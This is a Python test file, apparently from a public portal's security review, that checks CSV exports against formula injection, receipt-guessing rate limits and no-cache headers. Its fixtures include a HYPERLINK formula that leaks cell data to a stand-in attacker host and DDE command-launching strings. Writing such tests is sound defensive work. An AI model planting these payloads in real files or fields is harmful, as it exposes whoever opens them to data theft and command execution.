"""Attacks on the public portal from the security review: what a visitor downloads or
keeps, and how often they may guess."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from server.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ver detalle")'


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_open_data_csv_never_hands_a_spreadsheet_a_formula(app, demo):
    """A coordinator's text (a commitment, a project name) that starts like a formula is
    written so that Excel or LibreOffice shows it as text, not runs it."""
    from server.commitments.models import Commitment
    from server.plans.models import Plan, Project

    with app.app_context():
        commitment = db.session.scalars(select(Commitment).order_by(Commitment.id)).first()
        project = db.session.get(Project, commitment.project_id)
        department = db.session.get(Plan, project.plan_id).department_ubigeo
        commitment.what_es = FORMULA
        commitment.what_qu = "+cmd|' /C calc'!A0"
        project.name_es = "@SUM(1+1)*cmd|' /C calc'!A0"
        code, project_code = commitment.code, project.code
        db.session.commit()
    client = app.test_client()
    [row] = [r for r in _rows(client.get(f"/datos/{department}/compromisos.csv"))
             if r["code"] == code]
    assert row["what_es"] == "'" + FORMULA
    assert row["what_qu"] == "'+cmd|' /C calc'!A0"
    [project_row] = [r for r in _rows(client.get(f"/datos/{department}/proyectos.csv"))
                     if r["code"] == project_code]
    assert project_row["name_es"].startswith("'@")
    # the JSON keeps the words as they were typed (no spreadsheet reads it)
    data = client.get(f"/datos/{department}.json").get_json()
    assert FORMULA in [c["what_es"] for c in data["commitments"]]


def test_guessing_receipts_on_the_portal_is_rate_limited_like_the_api(app_factory):
    app = app_factory(RATELIMIT_RECEIPTS="3 per minute")
    client = app.test_client()
    codes = [client.get("/recibo?codigo=2345-6789").status_code for _ in range(4)]
    assert codes == [200, 200, 200, 429]
    refused = client.get("/recibo?codigo=2345-6789&lang=es")
    assert "Espera un momento" in refused.get_data(as_text=True)
    # the empty form itself is not counted
    assert client.get("/recibo").status_code == 200


def test_the_receipt_page_is_never_kept_by_a_browser_or_proxy(app, demo, client,
                                                              link_headers):
    """It shows the team's reply to one resident: like the receipts API, never cached (the
    next person at a shared computer must not find it)."""
    from tests.helpers import feedback_item

    stored = client.post("/api/v1/submissions", json={"submissions": [feedback_item()]},
                         headers=link_headers).get_json()
    receipt = stored["results"][0]["receipt"]
    response = client.get(f"/recibo?codigo={receipt}")
    assert response.status_code == 200 and receipt in response.get_data(as_text=True)
    assert "no-store" in response.headers.get("Cache-Control", "")
